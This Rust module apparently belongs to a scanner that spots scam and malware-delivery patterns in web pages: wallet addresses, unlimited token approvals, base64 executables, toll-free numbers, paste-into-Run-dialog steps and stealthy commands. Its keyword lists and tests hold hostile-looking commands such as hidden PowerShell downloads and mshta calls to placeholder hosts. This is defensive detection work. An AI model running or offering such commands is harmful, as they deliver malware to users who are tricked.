//! Facts that a text's shape says: an account's address, a command that hides itself, a file in base64.

use std::sync::LazyLock;

use super::Atom;
use crate::characters::Characters;
use crate::few::FewWords;
use crate::stream::{Item, Kind, Stream};

/// Calls `add` with what the shape of a string, piece of a template or regular expression says.
pub(super) fn of(kind: Kind, text: &str, characters: Characters, mut add: impl FnMut(Atom)) {
    if kind == Kind::Regex {
        if text.contains("pub-") && (text.contains("ca-") || text.contains("\\d")) {
            add(Atom::AdClientPattern);
        }
        return;
    }
    if is_account(text) {
        add(Atom::AccountAddress);
    }
    if text.len() >= UNTYPED_DIGITS && text.bytes().all(|byte| byte.is_ascii_digit()) {
        add(Atom::Unlimited);
    }
    if is_largest(text) {
        add(Atom::Unlimited);
    }
    if is_raw_right(text) {
        add(Atom::AccountAddress);
        add(Atom::Unlimited);
    }
    if is_monero(text) {
        add(Atom::MoneroAddress);
    }
    if is_payload(text) {
        add(Atom::Payload);
        if is_program(text) {
            add(Atom::ProgramBytes);
        }
    }
    if matches!(text, "Escape" | "F11" | "F4" | "F12" | "F5" | "Alt" | "Control" | "Meta" | "Tab" | "Esc") {
        add(Atom::LeavingKey);
    }
    if characters.has(b'8') && has_toll_free_number(text) {
        add(Atom::TollFree);
    }
    // A command or a step is a line or a page, not a library.
    if (6..=LONGEST).contains(&text.len()) {
        if characters.has(b' ') && is_stealthy_command(text, characters) {
            add(Atom::StealthyCommand);
        }
        let may_be_steps = characters.has_any(BETWEEN_WORDS) && STEPS.may_be_in(characters);
        if let Some(pastes) = may_be_steps.then(|| run_steps(text)).flatten() {
            add(Atom::RunSteps);
            if pastes {
                add(Atom::RunAndPaste);
            }
        }
        if PASTE_KEYS.may_be_in(characters) && is_paste_step(text) {
            add(Atom::PasteStep);
        }
    }
}

/// Calls `add` with what the source of a string says that was decoded.
pub(super) fn of_source(source: &str, mut add: impl FnMut(Atom)) {
    let quote = |c| matches!(c, '"' | '\'' | '`');
    let inner =
        source.find(quote).zip(source.rfind(quote)).and_then(|(first, last)| source.get(first + 1..last));
    if inner.is_some_and(is_payload) {
        add(Atom::Payload);
    }
}

const LONGEST: usize = 16 * 1024;
const BETWEEN_WORDS: Characters = Characters::of(b"+< ");
/// Digits of an amount that nobody types: a million coins have 25.
const UNTYPED_DIGITS: usize = 27;

/// The largest amount as a contract takes it: 64 hexadecimal digits.
fn is_largest(text: &str) -> bool {
    text.len() == WORD && text.bytes().all(|byte| byte.eq_ignore_ascii_case(&b'f'))
}

/// What a wallet signs as `approve` or `increaseAllowance` for an account without a limit: the function, the account and the amount.
fn is_raw_right(text: &str) -> bool {
    let arguments = text.strip_prefix("0x095ea7b3").or_else(|| text.strip_prefix("0x39509351"));
    let amount = arguments.filter(|arguments| arguments.len() == 2 * WORD).and_then(|both| both.get(WORD..));
    amount.is_some_and(is_largest)
}

/// Digits of one argument of a contract.
const WORD: usize = 64;

/// An address of Ethereum, TRON, Solana, TON or Bitcoin as a whole text.
fn is_account(text: &str) -> bool {
    let bytes = text.as_bytes();
    let all = |of: &[u8], is: fn(&u8) -> bool| of.iter().all(is);
    match bytes {
        [b'0', b'x' | b'X', rest @ ..] if rest.len() == 40 => all(rest, u8::is_ascii_hexdigit),
        [b'b', b'c', b'1', rest @ ..] if (36..=59).contains(&rest.len()) => {
            all(rest, u8::is_ascii_alphanumeric)
        }
        [b'T', ..] if bytes.len() == 34 => is_mixed(bytes),
        [b'1' | b'3', ..] if (26..=35).contains(&bytes.len()) => is_mixed(bytes),
        [b'U' | b'E' | b'k' | b'0', b'Q', ..] if bytes.len() == 48 => {
            all(bytes, |byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'))
        }
        _ if (43..=44).contains(&bytes.len()) => {
            is_mixed(bytes)
                && !bytes.iter().any(|byte| matches!(byte, b'0' | b'O' | b'I' | b'l'))
                && !is_of_system(bytes)
        }
        _ => false,
    }
}

/// Whether an address of Solana is a program or a variable of the chain itself, such as `SysvarRent111…`. Nobody has the key of
/// an address that is filled up with zeros.
fn is_of_system(bytes: &[u8]) -> bool {
    bytes.ends_with(b"11111") || bytes.windows(12).any(|part| part == b"111111111111")
}

/// Letters of both cases and digits, nothing else.
fn is_mixed(bytes: &[u8]) -> bool {
    bytes.iter().all(u8::is_ascii_alphanumeric)
        && bytes.iter().any(u8::is_ascii_uppercase)
        && bytes.iter().any(u8::is_ascii_lowercase)
        && bytes.iter().any(u8::is_ascii_digit)
}

/// The address of a Monero account: 95 characters, or 106 with a payment's number.
fn is_monero(text: &str) -> bool {
    let bytes = text.as_bytes();
    matches!(bytes.len(), 95 | 106) && matches!(bytes[0], b'4' | b'8') && is_mixed(bytes)
}

/// A key as services give them to accounts.
pub(super) fn is_key(text: &str) -> bool {
    (16..=128).contains(&text.len())
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-')
        && text.bytes().any(|byte| byte.is_ascii_digit())
}

/// Whether base64 begins as the file of a program, or of an archive that none but people who pack programs use.
fn is_program(text: &str) -> bool {
    let body = text.split_once(";base64,").map_or(text, |(_, body)| body);
    // Windows, Linux, shell scripts; RAR, 7-Zip, cabinets, shortcuts.
    ["TVqQ", "TVpQ", "TVoA", "f0VMR", "IyEv", "UmFyI", "N3q8r", "TVNDR", "TAAAAAEUAg"]
        .iter()
        .any(|magic| body.starts_with(magic))
}

/// Base64 or hexadecimal of a file that is no picture, font or document.
fn is_payload(text: &str) -> bool {
    if text.len() < SHORTEST_PAYLOAD {
        return false;
    }
    let typed = memchr::memchr(b';', text.as_bytes()).and_then(|_| text.split_once(";base64,"));
    let (head, body) = match typed {
        Some((head, body)) => (head, body),
        None => ("", text),
    };
    let harmless_type = [
        "data:image",
        "data:font",
        "data:audio",
        "data:video",
        "data:text",
        "data:application/font",
        "data:application/pdf",
        "data:application/x-font",
        "data:application/json",
        "data:application/vnd",
    ];
    let searched = &body.as_bytes()[..body.len().min(4096)];
    let base64 = || {
        let is_sign = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=\r\n".contains(byte);
        searched.iter().all(is_sign)
    };
    // Most texts have a space or the like, and are asked no further.
    if body.len() < SHORTEST_PAYLOAD
        || !base64()
        || harmless_type.iter().any(|harmless| head.starts_with(harmless))
    {
        return false;
    }
    // Pictures, fonts, documents, WebAssembly, text of markup.
    let harmless = [
        "iVBOR", "/9j/", "R0lGOD", "UklGR", "PHN2", "PD94", "JVBERi", "AAEAAA", "d09G", "T1RUT", "AGFzb",
        "AAABAA", "Qk0", "SUQz", "//u", "eyJ", "AAAB",
    ];
    if harmless.iter().any(|magic| body.starts_with(magic)) {
        return false;
    }
    searched.iter().any(u8::is_ascii_uppercase)
        && searched.iter().any(u8::is_ascii_lowercase)
        && (searched.iter().any(u8::is_ascii_digit) || body.ends_with('='))
}

/// Bytes of a file as text that are worth a look.
const SHORTEST_PAYLOAD: usize = 40;

/// Whether a list of bytes, long enough for a file, begins at an item: `[77, 90, …`.
pub(super) fn is_list_of_bytes(items: &[Item], at: usize) -> bool {
    const ENOUGH: usize = 64;
    items.get(at).is_some_and(|item| item.is_op(b'['))
        && items.len() > at + 2 * ENOUGH
        && items[at + 1..=at + 2 * ENOUGH].chunks(2).all(|pair| {
            pair[0].number().is_some_and(|number| (0.0..256.0).contains(&number))
                && pair.get(1).is_none_or(|item| item.is_op(b','))
        })
}

/// `1-8xx-xxx-xxxx`, with what people put between the digits.
fn has_toll_free_number(text: &str) -> bool {
    let has_digits = || text.bytes().filter(u8::is_ascii_digit).count() >= 10;
    if !(12..=2048).contains(&text.len()) || !has_digits() {
        return false;
    }
    let mut digits = [0u8; 11];
    let mut count = 0;
    let mut gap = 0;
    for byte in text.bytes().chain([b'x']) {
        match byte {
            b'0'..=b'9' => {
                digits.rotate_left(1);
                digits[10] = byte;
                count += 1;
                gap = 0;
            }
            b'-' | b' ' | b'(' | b')' | b'.' | b'+' if gap < 3 => gap += 1,
            _ => {
                let [country, area @ .., _, _, _, _, _, _, _] = digits;
                let is_toll_free =
                    || area[0] == b'8' && matches!(area[1], b'0' | b'3'..=b'8') && area[2] == area[1];
                if (count == 10 || count == 11 && country == b'1') && is_toll_free() {
                    return true;
                }
                count = 0;
                gap = 0;
            }
        }
    }
    false
}

/// What commands start. No other letter becomes one of these in small letters.
static PROGRAMS: LazyLock<FewWords> = LazyLock::new(|| {
    FewWords::new([
        "shell",
        "mshta",
        "cmd",
        "rundll32",
        "regsvr32",
        "conhost",
        "bitstransfer",
        "certutil",
        "curl",
        "msiexec",
        "wget",
        "iwr",
        "iex",
        "base64",
        "osascript",
        "finger",
        "ssh",
        "wscript",
        "nslookup",
        "forfiles",
        "pcalua",
    ])
});

/// Of the words that [`run_steps`] looks for, one that each of them has: without any there are no such steps.
static STEPS: LazyLock<FewWords> = LazyLock::new(|| {
    FewWords::new([
        "win",
        "logo",
        "super",
        "dialog",
        "cmd",
        "command",
        "terminal",
        "powershell",
        "⌘",
        "⊞",
        "❖",
    ])
});

const QUOTES: Characters = Characters::of(b"^`\"'");

/// Whether a text is a command that hides its window or its text, or fetches a program and runs it. No instruction for
/// installing something does that.
fn is_stealthy_command(text: &str, characters: Characters) -> bool {
    // No sign that is taken out below.
    let is_plain = !characters.has_any(QUOTES) && (characters.is_ascii() || !text.contains(['“', '”']));
    if (is_plain || characters.is_ascii()) && !PROGRAMS.may_be_in(characters)
        || is_plain && !PROGRAMS.any(text)
    {
        return false;
    }
    let is_quote = |c: char| matches!(c, '^' | '`' | '"' | '\'' | '“' | '”');
    let small: String = if characters.is_ascii() {
        let mut small = text.replace(is_quote, "");
        small.make_ascii_lowercase();
        small
    } else {
        text.chars().filter(|c| !is_quote(*c)).flat_map(char::to_lowercase).collect()
    };
    if !PROGRAMS.any(&small) || small.contains("function") {
        return false;
    }
    let has = |words: &[&str]| words.iter().any(|word| small.contains(word));
    let starts = |program: &str| {
        small.find(program).is_some_and(|at| {
            let before = small[..at].chars().next_back();
            let after = small[at + program.len()..].chars().next();
            before.is_none_or(|c| !c.is_alphanumeric())
                && after.is_none_or(|c| matches!(c, ' ' | '.' | '\t' | '-'))
        })
    };
    let shell = starts("powershell") || starts("pwsh") || starts("poershell");
    let web = has(&["http", "//", "$env", "\\\\"]);
    let hides = has(&[
        "-w hidden",
        "-w h ",
        "-w 1",
        "-windowstyle h",
        "-win h",
        "-wi h",
        "-w hid",
        "--headless",
        "start /min",
        "/min ",
    ]);
    let encoded = has(&[" -enc ", " -e ", " -ec ", " -encodedcommand", " -en ", "frombase64string"]);
    let mshta =
        starts("mshta") && (web || small.trim_end().ends_with("mshta") || has(&["vbscript:", "javascript:"]));
    // Who installs something is told to fetch it into the folder that is open, and what to type next.
    let kept_out_of_sight =
        has(&["%temp", "env:temp", "appdata", "\\public", "programdata", "certutil", "/transfer"]);
    let fetched_program = has(&[
        "bitstransfer",
        "-outfile",
        "-o %",
        "-o $env",
        "certutil -urlcache",
        "/transfer",
        "downloadfile",
    ]) && (has(&["start ", "start-process"])
        || kept_out_of_sight && has(&["&&", "; ", "&"]));
    let claims = has(&["robot", "captcha", "verif", "human"]) && small.contains('#') && (shell || web);
    let mac = has(&["base64 -d", "base64 --decode"]) && has(&["| bash", "|bash", "| sh", "|sh", "| zsh"])
        || has(&["curl", "wget"]) && has(&["nohup"]) && has(&["bash", "/tmp/", "chmod"])
        // A program that does not show in a list of files; a script that AppleScript runs; no output, and in the background.
        || has(&["curl", "wget"]) && has(&["/tmp/."])
        || starts("osascript") && has(&["do shell script"]) && has(&["curl", "http", "base64"])
        || has(&["curl", "wget"]) && has(&["| osascript", "|osascript"])
        || has(&["curl", "wget"]) && has(&["bash", "zsh", "sh -c"]) && has(&["/dev/null"]) && has(&["1 &", "null &"]);
    let odd = starts("finger") && small.contains('@') && small.contains('|')
        || starts("nslookup") && has(&["| iex", "|iex", "| cmd", "|cmd", "for /f"])
        || (starts("forfiles") || starts("pcalua")) && has(&["mshta", "shell", "http"])
        || has(&["net use"]) && has(&["\\\\"]) && has(&["rundll32", "regsvr32", "start "]);
    // The end of it, a comment, is a file or an address that the visitor believes to be pasting.
    let decoy = small.rsplit_once(" # ").is_some_and(|(_, end)| {
        end.contains(":\\")
            || end.contains("\\\\")
            || [".pdf", ".docx", ".doc", ".xlsx", ".pptx", ".zip"]
                .iter()
                .any(|kind| end.trim_end().ends_with(kind))
    });
    // What is before the spaces is not seen in the field that it is pasted into.
    let out_of_sight = (shell || mshta || starts("cmd")) && small.contains(&" ".repeat(16));
    mshta
        || shell && (hides || encoded)
        || starts("conhost") && hides
        || starts("rundll32") && has(&["javascript:", "http", "\\\\"])
        || starts("regsvr32") && has(&["/i:http", "scrobj"])
        || starts("msiexec") && has(&["http"]) && has(&["/q", "-q"])
        || starts("cmd")
            && has(&["/c"])
            && has(&["curl", "powershell", "mshta", "finger", "iwr"])
            && (hides || web)
        || fetched_program && web
        || claims && text.len() > 24 && (shell || starts("curl") || starts("cmd"))
        || mac
        || odd
        || out_of_sight
        || decoy && (shell || starts("cmd") || starts("curl"))
}

/// Whether a text that tells people to open a place where commands are typed also tells them to paste; `None` where it
/// does not.
fn run_steps(text: &str) -> Option<bool> {
    if text.len() < 8 || !STEPS.any(text) {
        return None;
    }
    let plain = words_of(text);
    let words: Vec<&str> = plain.split_ascii_whitespace().filter(|word| *word != "nbsp").collect();
    let follows = |names: &[&str], then: &str| keys_follow(&words, names, then);
    let pastes = names_paste(&words);
    let windows = ["win", "windows", "windowskey", "winkey", "windowstaste", "⊞", "❖", "logo", "superkey"];
    let opens = follows(&windows, "r")
        || follows(&windows, "x")
        || follows(&["alt"], "f2")
        || words.windows(2).any(|pair| pair == ["run", "dialog"]) && pastes
        || follows(&["⌘", "cmd", "command"], "space") && words.contains(&"terminal");
    // A shell is opened and something is put into it, said in words. The other button of the mouse opens the menu with the shell, and
    // once more it pastes there.
    let shell = words.iter().any(|word| matches!(*word, "powershell" | "terminal" | "cmd"));
    let clicks = words.windows(2).filter(|pair| *pair == ["right", "click"]).count();
    let puts =
        words.iter().any(|word| PASTES.iter().any(|paste| word.starts_with(paste))) || pastes || clicks >= 2;
    let says = words.len() >= 6 && shell && puts;
    (opens || says).then_some(opens && pastes)
}

/// Whether a text tells people in words to paste with the keyboard: a list of keys alone tells nobody anything.
fn is_paste_step(text: &str) -> bool {
    if text.len() < 8 || text.len() > LONGEST_STEP || !PASTE_KEYS.any(text) {
        return false;
    }
    let plain = words_of(text);
    let words: Vec<&str> = plain.split_ascii_whitespace().filter(|word| *word != "nbsp").collect();
    words.len() >= 3 && names_paste(&words)
}

/// Bytes of a line of instructions.
const LONGEST_STEP: usize = 400;

static PASTE_KEYS: LazyLock<FewWords> =
    LazyLock::new(|| FewWords::new(["ctrl", "control", "cmd", "command", "strg", "⌘"]));

/// The words of a text or of markup, in small letters, with spaces between them.
fn words_of(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut in_tag = false;
    for c in text.chars() {
        match c {
            '<' => in_tag = true,
            '>' => {
                in_tag = false;
                plain.push(' ');
            }
            _ if in_tag => {}
            _ if c.is_alphanumeric() || matches!(c, '⌘' | '⊞' | '❖') => plain.extend(c.to_lowercase()),
            _ => plain.push(' '),
        }
    }
    plain
}

/// Whether one of the keys is named, and then the other that is pressed with it.
fn keys_follow(words: &[&str], names: &[&str], then: &str) -> bool {
    words.iter().enumerate().any(|(at, word)| {
        let between = words.iter().skip(at + 1).take_while(|word| KEY_WORDS.contains(word)).take(BETWEEN);
        names.contains(word) && words.get(at + 1 + between.count()) == Some(&then)
    })
}

fn names_paste(words: &[&str]) -> bool {
    keys_follow(words, &["ctrl", "control", "cmd", "command", "strg", "⌘"], "v") || words.contains(&"⌘v")
}

/// What is between the name of a key and the key that is pressed with it.
const KEY_WORDS: [&str; 26] = [
    "key",
    "button",
    "taste",
    "tuşu",
    "plus",
    "and",
    "press",
    "then",
    "hit",
    "tap",
    "the",
    "letter",
    "und",
    "dann",
    "y",
    "pulse",
    "presione",
    "et",
    "appuyez",
    "sur",
    "premi",
    "touche",
    "tecla",
    "и",
    "нажмите",
    "клавишу",
];
/// Words between the two.
const BETWEEN: usize = 3;

/// How languages begin the word for pasting.
const PASTES: [&str; 16] = [
    "past",
    "einfüg",
    "pegar",
    "pega",
    "coller",
    "collez",
    "colar",
    "cole",
    "incoll",
    "вставь",
    "вставит",
    "粘贴",
    "貼り付け",
    "yapıştır",
    "tempel",
    "wklej",
];

/// Whether a call keeps something in a database that pages write to themselves: `set(ref(db, 'users'), {…})`,
/// `db.ref('users').push({…})`, `db.collection('users').add({…})`, `db.from('users').insert({…})`.
pub(crate) fn keeps_in_database(stream: &Stream<'_>, callee: usize, open: usize) -> bool {
    let items = stream.items();
    let name = stream.text(&items[callee]);
    if !matches!(name, "set" | "push" | "update" | "add" | "insert") {
        return false;
    }
    let is = |at: usize, op: u8| items.get(at).is_some_and(|item| item.is_op(op));
    let word = |at: usize| items.get(at).map_or("", |item| stream.text(item));
    if items[callee].kind == Kind::Name {
        // `set(ref(db, 'users'), {…})`
        let of_reference = matches!(word(open + 1), "ref" | "child" | "collection") && is(open + 2, b'(');
        return name != "insert" && of_reference;
    }
    let Some(close) = callee.checked_sub(1).filter(|close| is(*close, b')')) else { return false };
    let mut depth = 0u32;
    for at in (close.saturating_sub(REFERENCE)..close).rev() {
        if is(at, b')') {
            depth += 1;
        } else if is(at, b'(') {
            if depth == 0 {
                let of = at.checked_sub(1).map_or("", word);
                return match of {
                    "ref" | "child" | "collection" | "doc" | "push" => name != "insert",
                    "from" => name == "insert",
                    _ => false,
                };
            }
            depth -= 1;
        }
    }
    false
}

/// Items of what names a place in a database.
const REFERENCE: usize = 24;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_told_from_other_texts() {
        for account in [
            "0x000000000000000000000000000000000000dEaD",
            "TXYZopYRdj2D9XRtbG411XZZ3kM5VkAeBf",
            "So1anaExamp1eAddressForTestsNotRea1Acc9unt99",
            "bc1qexampleexampleexampleexampleexample00",
        ] {
            assert!(is_account(account), "{account}");
        }
        for other in ["0x00", "", "a plain sentence of thirty-four le", "T1234567890123456789012345678901234"]
        {
            assert!(!is_account(other), "{other}");
        }
    }

    #[test]
    fn commands_that_hide_are_told_from_instructions() {
        for command in [
            "powershell -w hidden -c \"iwr https://a.invalid/a.txt\"",
            "po^wershell -NoP -W Hidden -Enc SQBFAFgA",
            "mshta https://a.invalid/x.hta # I am not a robot",
            "mshta \"",
            "conhost.exe --headless cmd /c powershell -Command x",
            "rundll32.exe javascript:\"x\"",
            "Start-BitsTransfer -Source 'https://a.invalid/a' -Destination \"$env:TEMP\\a.exe\"; Start-Process \"$env:TEMP\\a.exe\"",
            "cmd /c start /min curl https://a.invalid/a -o %temp%\\a.bat",
            "echo \"Y3VybCA=\" | base64 -d | bash",
            "Powershell.exe -c ping a.invalid # C:\\company\\drive\\Policy.docx",
        ] {
            assert!(is_stealthy_command(command, Characters::of(command.as_bytes())), "{command}");
        }
        for instruction in [
            "curl -fsSL https://example.test/install.sh | sh",
            "powershell -ExecutionPolicy ByPass -c \"irm https://example.test/install.ps1 | iex\"",
            "npm install example",
            "winget install Example.Tool",
            "powershell -Command \"Invoke-WebRequest -Uri https://example.test/tool.exe -OutFile tool.exe; ./tool.exe --version\"",
            "curl -Lo /tmp/tool https://example.test/tool; chmod +x /tmp/tool; sudo mv /tmp/tool /usr/local/bin",
            "iwr https://example.test/install.ps1 -useb | iex",
            "The PowerShell shell and its commands",
            "powershell -c \"Get-Item a\" # lists a file",
            "cmd+c",
        ] {
            assert!(
                !is_stealthy_command(instruction, Characters::of(instruction.as_bytes())),
                "{instruction}"
            );
        }
    }

    #[test]
    fn steps_numbers_and_files_are_recognised() {
        assert!(run_steps("Press <b>Windows</b> + <b>R</b>") == Some(false));
        assert!(run_steps("<code>Win+R</code> <code>Ctrl+V</code>") == Some(true));
        assert!(
            run_steps(
                "Right-click the Windows icon, choose Windows PowerShell (Admin), right-click inside and wait"
            )
            .is_some()
        );
        assert!(run_steps("Windows 10 + Office").is_none() && run_steps("Ctrl+R").is_none());
        assert!(
            has_toll_free_number("Call +1-888-555-0100 now") && has_toll_free_number("Tel. (800) 555 0100.")
        );
        assert!(!has_toll_free_number("8005550100") && !has_toll_free_number("Order 1234567890123"));
        assert!(is_payload("SU5FUlQgVEVTVCBURVhUIEZJTEUsIE5PVCBBIFBST0dSQU0="));
        assert!(
            !is_payload("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAA")
                && !is_payload(&"word".repeat(20))
        );
    }
}
